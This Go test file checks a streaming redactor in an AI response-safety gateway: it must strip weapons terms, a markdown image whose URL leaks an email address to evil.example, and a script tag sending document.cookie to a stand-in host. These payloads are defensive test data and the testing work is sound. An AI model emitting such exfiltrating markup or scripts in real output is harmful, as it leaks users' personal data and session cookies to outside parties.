package redact

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"sync"
	"testing"

	"github.com/bulwark-ai/bulwark/internal/detect"
)

// safetyScanner reads answers with content-safety categories and the
// markup sanitiser on, as serve builds its response scanner.
var safetyScanner = sync.OnceValues(func() (*detect.Scanner, error) {
	cr, err := detect.NewContentRules([]detect.ContentCategory{
		{Name: "weapons", Terms: []string{"nerve agent", "sarin"}, Directions: []detect.Direction{detect.DirectionResponse}, Action: detect.ContentRedact},
		{Name: "cjk", Terms: []string{"禁止词"}, Directions: []detect.Direction{detect.DirectionResponse}, Action: detect.ContentRedact},
	}, detect.OutputSpec{Sanitize: true, AllowedLinkHosts: []string{"docs.example.com"}})
	if err != nil {
		return nil, err
	}
	return detect.New(detect.Config{DisableInjection: true, Content: cr, Direction: detect.DirectionResponse})
})

var safetyRules = Rules{
	{Detector: detect.DetectorMarkup, Action: Remove},
	{Detector: detect.DetectorContent, Action: Replace},
	{Detector: "", Action: Replace},
}

// safetyText is prose long enough for early cuts, with phrases, an
// exfiltration image, a safe link and script, at positions seed varies.
func safetyText(seed uint64) string {
	rng := rand.New(rand.NewPCG(seed, 3))
	parts := []string{
		"The quarterly report covers revenue and churn and hiring plans in detail. ",
		"Here is how a nerve agent works in general terms for the history lesson. ",
		"Result: ![chart](https://evil.example/p.png?d=jane.doe@gmail.com) as promised. ",
		"See [the docs](https://docs.example.com/guide) for the rest of the story. ",
		"Everyone talked about the nerve\n agent and about SARIN once more today. ",
		"这是一个关于禁止词的段落，没有别的内容。",
		"a <script>fetch('//e.example/?c='+document.cookie)</script> b and then more prose. ",
		"Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod. ",
	}
	var b strings.Builder
	for range 3 {
		for _, i := range rng.Perm(len(parts)) {
			b.WriteString(parts[i])
		}
	}
	return b.String()
}

// TestStreamContentSafetyAndMarkup: a phrase split over events (and over
// the stream's early cuts) is found, the exfiltration image loses its
// URL, and the output is byte-identical however the answer is split,
// and equal to the buffered redaction of the whole text.
func TestStreamContentSafetyAndMarkup(t *testing.T) {
	t.Parallel()
	sc, err := safetyScanner()
	if err != nil {
		t.Fatal(err)
	}
	r := New(safetyRules, nil)
	for seed := uint64(1); seed <= 3; seed++ {
		for i, shape := range []StreamOptions{{}, {Step: 16, Lookahead: 128}, {Step: 200, Lookahead: 300}} {
			t.Run(fmt.Sprintf("text%d/shape%d", seed, i), func(t *testing.T) {
				t.Parallel()
				text := safetyText(seed)
				want := feed(t, r, sc, shape, text, []string{text})
				low := strings.ToLower(want.text)
				for _, leak := range []string{"nerve agent", "nerve\n agent", "sarin", "禁止词", "evil.example", "<script", "document.cookie"} {
					if strings.Contains(low, leak) {
						t.Errorf("output keeps %q:\n%s", leak, want.text)
					}
				}
				if !strings.Contains(want.text, "[the docs](https://docs.example.com/guide)") {
					t.Errorf("the allowed link was changed:\n%s", want.text)
				}
				if !strings.Contains(want.text, "Result: chart as promised.") {
					t.Errorf("the image's text was not kept:\n%s", want.text)
				}
				buffered, _, _ := r.Text(sc, text, nil)
				if buffered != want.text {
					t.Errorf("streamed output differs from buffered\nstream %q\nbuffer %q", want.text, buffered)
				}
				for s := range uint64(12) {
					rng := rand.New(rand.NewPCG(s, 5))
					got := feed(t, r, sc, shape, text, split(text, rng, int(s%5)))
					if got.text != want.text {
						t.Fatalf("split %d: output differs from one Write\n got %q\nwant %q", s, got.text, want.text)
					}
				}
			})
		}
	}
}

// TestStreamPhraseAtEveryCut writes a phrase after prose of every length
// (so that the stream's early cuts fall everywhere around it), in one piece
// and in two split at every byte of the phrase.
func TestStreamPhraseAtEveryCut(t *testing.T) {
	t.Parallel()
	sc, err := safetyScanner()
	if err != nil {
		t.Fatal(err)
	}
	r := New(safetyRules, nil)
	for pad := range 40 {
		// A long word before the phrase moves the stream's next early cut
		// (the first quiet space some bytes on) to after "nerve ".
		text := "The history lesson went on and " + strings.Repeat("o", pad) + " nerve agent came up again and again. "
		at := strings.Index(text, "nerve")
		for k := at; k <= at+len("nerve agent"); k++ {
			pieces := []string{text[:k], text[k:]}
			if k == at {
				pieces = []string{text}
			}
			got := feed(t, r, sc, StreamOptions{}, text, pieces)
			// The whole phrase is replaced, and reported (a deny category
			// is enforced on reported findings only).
			if strings.Contains(got.text, "nerve") || !strings.Contains(got.text, "[REDACTED:weapons]") {
				t.Fatalf("pad %d, split at %d: %q", pad, k, got.text)
			}
			reported := 0
			for _, f := range got.finds {
				if f.Detector == detect.DetectorContent {
					reported++
				}
			}
			if reported != 1 {
				t.Fatalf("pad %d, split at %d: %d content findings reported, want 1", pad, k, reported)
			}
		}
	}
}
